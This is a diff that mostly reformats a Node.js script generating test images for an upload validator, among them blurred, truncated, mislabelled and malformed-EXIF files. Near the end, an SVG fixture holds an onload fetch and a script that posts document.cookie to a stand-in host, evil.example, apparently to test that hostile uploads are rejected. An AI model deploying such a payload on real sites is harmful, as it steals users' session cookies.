@@ -5,7 +5,15 @@
 import { execFile } from 'node:child_process';
 import { promisify } from 'node:util';
 import { randomBytes } from 'node:crypto';
-import { createWriteStream, mkdirSync, readFileSync, truncateSync, writeFileSync, closeSync, openSync } from 'node:fs';
+import {
+  createWriteStream,
+  mkdirSync,
+  readFileSync,
+  truncateSync,
+  writeFileSync,
+  closeSync,
+  openSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { once } from 'node:events';
@@ -28,11 +36,39 @@ const text = [
   'Address: 100 Example Road, Shanghai',
 ];
 function page({ paper = '#fbfaf7', seal = true } = {}) {
-  const args = ['-size', '1600x1000', `xc:${paper}`, '-fill', '#1f3a93', '-draw', 'rectangle 0,0 1600,110', '-fill', 'black', '-pointsize', '34'];
+  const args = [
+    '-size',
+    '1600x1000',
+    `xc:${paper}`,
+    '-fill',
+    '#1f3a93',
+    '-draw',
+    'rectangle 0,0 1600,110',
+    '-fill',
+    'black',
+    '-pointsize',
+    '34',
+  ];
   text.forEach((line, i) => args.push('-annotate', `+80+${190 + i * 70}`, line));
   if (seal) {
-    args.push('-fill', 'none', '-stroke', '#d42a2a', '-strokewidth', '10', '-draw', 'circle 1300,760 1300,620');
-    args.push('-fill', '#d42a2a', '-stroke', 'none', '-draw', 'polygon 1300,700 1315,745 1360,745 1323,772 1337,815 1300,790 1263,815 1277,772 1240,745 1285,745');
+    args.push(
+      '-fill',
+      'none',
+      '-stroke',
+      '#d42a2a',
+      '-strokewidth',
+      '10',
+      '-draw',
+      'circle 1300,760 1300,620',
+    );
+    args.push(
+      '-fill',
+      '#d42a2a',
+      '-stroke',
+      'none',
+      '-draw',
+      'polygon 1300,700 1315,745 1360,745 1323,772 1337,815 1300,790 1263,815 1277,772 1240,745 1285,745',
+    );
   }
   return args;
 }
@@ -45,20 +81,71 @@ await Promise.all([
   // A photographed card on a grey table, with a blown-out reflection across the text (an
   // ellipse drawn small and enlarged, so its edge is soft: blurring at full size takes ~20 s).
   // Sensor noise first: a highlight clips to flat white on top of it.
-  convert(...page({ paper: '#b9b3a8' }), ...noise, '(', '-size', '160x100', 'xc:black', '-fill', 'white', '-draw', 'ellipse 60,33 33,17 0,360', '-resize', '1600x1000!', ')', '-compose', 'screen', '-composite', '-quality', '90', at('glare.jpg')),
+  convert(
+    ...page({ paper: '#b9b3a8' }),
+    ...noise,
+    '(',
+    '-size',
+    '160x100',
+    'xc:black',
+    '-fill',
+    'white',
+    '-draw',
+    'ellipse 60,33 33,17 0,360',
+    '-resize',
+    '1600x1000!',
+    ')',
+    '-compose',
+    'screen',
+    '-composite',
+    '-quality',
+    '90',
+    at('glare.jpg'),
+  ),
   convert(...page({ seal: false }), ...noise, '-quality', '90', at('no-seal.jpg')),
   convert('-size', '1x1', 'xc:#c33', at('tiny.png')),
 ]);
 await Promise.all([
   convert(at('page.png'), ...noise, '-quality', '90', at('good.jpg')),
-  convert(at('page.png'), '-colorspace', 'Gray', ...noise, '-colorspace', 'Gray', '-quality', '90', at('gray.jpg')),
+  convert(
+    at('page.png'),
+    '-colorspace',
+    'Gray',
+    ...noise,
+    '-colorspace',
+    'Gray',
+    '-quality',
+    '90',
+    at('gray.jpg'),
+  ),
   // Out of focus: detail lost by shrinking to an eighth and enlarging again.
-  convert(at('page.png'), '-resize', '12.5%', '-resize', '1600x1000!', ...noise, '-quality', '90', at('blurred.jpg')),
+  convert(
+    at('page.png'),
+    '-resize',
+    '12.5%',
+    '-resize',
+    '1600x1000!',
+    ...noise,
+    '-quality',
+    '90',
+    at('blurred.jpg'),
+  ),
   convert(at('page.png'), '-resize', '1000x', '-quality', '60', at('compact.jpg')),
   convert(at('page.png'), '-resize', '1000x', '-quality', '20', at('too-small.jpg')),
   convert(at('page.png'), '-resize', '1000x', at('good.gif')),
   // A large, clean scan: 4000 × 2500, mostly empty paper around the text.
-  convert(at('page.png'), '-background', '#fbfaf7', '-gravity', 'northwest', '-extent', '4000x2500', '-quality', '85', at('large-scan.jpg')),
+  convert(
+    at('page.png'),
+    '-background',
+    '#fbfaf7',
+    '-gravity',
+    'northwest',
+    '-extent',
+    '4000x2500',
+    '-quality',
+    '85',
+    at('large-scan.jpg'),
+  ),
 ]);
 await Promise.all([
   convert(at('good.jpg'), at('good.png')),
@@ -99,7 +186,10 @@ writeFileSync(at('big.jpg'), padJpeg(good, 6_000_000));
 writeFileSync(at('truncated.jpg'), good.subarray(0, Math.floor(good.length * 0.6)));
 for (const name of ['good.png', 'good.webp']) {
   const whole = readFileSync(at(name));
-  writeFileSync(at(name.replace('good', 'truncated')), whole.subarray(0, Math.floor(whole.length * 0.6)));
+  writeFileSync(
+    at(name.replace('good', 'truncated')),
+    whole.subarray(0, Math.floor(whole.length * 0.6)),
+  );
 }
 writeFileSync(at('renamed-png.jpg'), readFileSync(at('good.png')));
 
@@ -114,21 +204,23 @@ function exifSegment({ orientation, software, lensModel }) {
     const base = offset + 2 + tags.length * 12 + 4;
     const body = Buffer.alloc(2 + tags.length * 12 + 4);
     body.writeUInt16LE(tags.length, 0);
-    [...tags].sort((a, b) => a.id - b.id).forEach((tag, i) => {
-      const p = 2 + i * 12;
-      body.writeUInt16LE(tag.id, p);
-      body.writeUInt16LE(tag.type, p + 2);
-      if (tag.type === 2) {
-        const str = Buffer.from(`${tag.value}\0`);
-        body.writeUInt32LE(str.length, p + 4);
-        body.writeUInt32LE(base + Buffer.concat(tail).length, p + 8);
-        tail.push(str);
-      } else {
-        body.writeUInt32LE(1, p + 4);
-        if (tag.type === 3) body.writeUInt16LE(tag.value, p + 8);
-        else body.writeUInt32LE(tag.value, p + 8);
-      }
-    });
+    [...tags]
+      .sort((a, b) => a.id - b.id)
+      .forEach((tag, i) => {
+        const p = 2 + i * 12;
+        body.writeUInt16LE(tag.id, p);
+        body.writeUInt16LE(tag.type, p + 2);
+        if (tag.type === 2) {
+          const str = Buffer.from(`${tag.value}\0`);
+          body.writeUInt32LE(str.length, p + 4);
+          body.writeUInt32LE(base + Buffer.concat(tail).length, p + 8);
+          tail.push(str);
+        } else {
+          body.writeUInt32LE(1, p + 4);
+          if (tag.type === 3) body.writeUInt16LE(tag.value, p + 8);
+          else body.writeUInt32LE(tag.value, p + 8);
+        }
+      });
     return Buffer.concat([body, ...tail]);
   };
   let ifd0 = ifd(entries, 8);
@@ -136,9 +228,16 @@ function exifSegment({ orientation, software, lensModel }) {
   if (lensModel) {
     entries.find((e) => e.id === 0x8769).value = 8 + ifd0.length;
     ifd0 = ifd(entries, 8);
-    tiffBody = Buffer.concat([ifd0, ifd([{ id: 0xa434, type: 2, value: lensModel }], 8 + ifd0.length)]);
+    tiffBody = Buffer.concat([
+      ifd0,
+      ifd([{ id: 0xa434, type: 2, value: lensModel }], 8 + ifd0.length),
+    ]);
   }
-  const payload = Buffer.concat([Buffer.from('Exif\0\0'), Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0]), tiffBody]);
+  const payload = Buffer.concat([
+    Buffer.from('Exif\0\0'),
+    Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0]),
+    tiffBody,
+  ]);
   const head = Buffer.from([0xff, 0xe1, 0, 0]);
   head.writeUInt16BE(payload.length + 2, 2);
   return Buffer.concat([head, payload]);
@@ -150,11 +249,21 @@ function xmpSegment(creatorTool) {
   head.writeUInt16BE(payload.length + 2, 2);
   return Buffer.concat([head, payload]);
 }
-const withSegment = (jpeg, segment) => Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
+const withSegment = (jpeg, segment) =>
+  Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
 writeFileSync(at('mirrored.jpg'), withSegment(good, exifSegment({ orientation: 2 })));
 writeFileSync(at('rotated.jpg'), withSegment(good, exifSegment({ orientation: 6 })));
-writeFileSync(at('selfie.jpg'), withSegment(good, exifSegment({ orientation: 1, lensModel: 'iPhone 12 front camera 2.87mm f/2.2' })));
-writeFileSync(at('photoshop.jpg'), withSegment(good, exifSegment({ orientation: 1, software: 'Adobe Photoshop 25.0 (Windows)' })));
+writeFileSync(
+  at('selfie.jpg'),
+  withSegment(
+    good,
+    exifSegment({ orientation: 1, lensModel: 'iPhone 12 front camera 2.87mm f/2.2' }),
+  ),
+);
+writeFileSync(
+  at('photoshop.jpg'),
+  withSegment(good, exifSegment({ orientation: 1, software: 'Adobe Photoshop 25.0 (Windows)' })),
+);
 writeFileSync(at('gimp.jpg'), withSegment(good, xmpSegment('GIMP 2.10.36')));
 
 // Malformed EXIF: every offset points far past the end of the file (and of the segment): the
@@ -192,11 +301,29 @@ writeFileSync(at('bad-exif.jpg'), withSegment(good, badExifSegment()));
 writeFileSync(at('empty.jpg'), Buffer.alloc(0));
 writeFileSync(at('random.jpg'), randomBytes(100_000));
 // A HEIC whose boxes are in order but hold no picture: only the decoder can tell.
-const ftyp = Buffer.from([0, 0, 0, 24, ...Buffer.from('ftypheic'), 0, 0, 0, 0, ...Buffer.from('mif1heic')]);
-const mdat = Buffer.concat([Buffer.from([0, 1, 0x86, 0xa0]), Buffer.from('mdat'), randomBytes(100_000 - 8)]);
+const ftyp = Buffer.from([
+  0,
+  0,
+  0,
+  24,
+  ...Buffer.from('ftypheic'),
+  0,
+  0,
+  0,
+  0,
+  ...Buffer.from('mif1heic'),
+]);
+const mdat = Buffer.concat([
+  Buffer.from([0, 1, 0x86, 0xa0]),
+  Buffer.from('mdat'),
+  randomBytes(100_000 - 8),
+]);
 writeFileSync(at('garbage.heic'), Buffer.concat([ftyp, mdat]));
 writeFileSync(at('notes.txt'), 'My certificate number is 91310000MA1FL0000X.\n'.repeat(2000));
-writeFileSync(at('scan.pdf'), `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n${'% padding\n'.repeat(6000)}trailer << /Root 1 0 R >>\n%%EOF\n`);
+writeFileSync(
+  at('scan.pdf'),
+  `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n${'% padding\n'.repeat(6000)}trailer << /Root 1 0 R >>\n%%EOF\n`,
+);
 const svg = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="1000" onload="fetch('https://evil.example/steal')"><script>fetch('https://evil.example/x', { method: 'POST', body: document.cookie })</script><rect width="1600" height="1000" fill="red"/>${'<!-- padding -->'.repeat(4000)}</svg>\n`;
 writeFileSync(at('script.svg'), svg);
 // The same two, named like pictures.
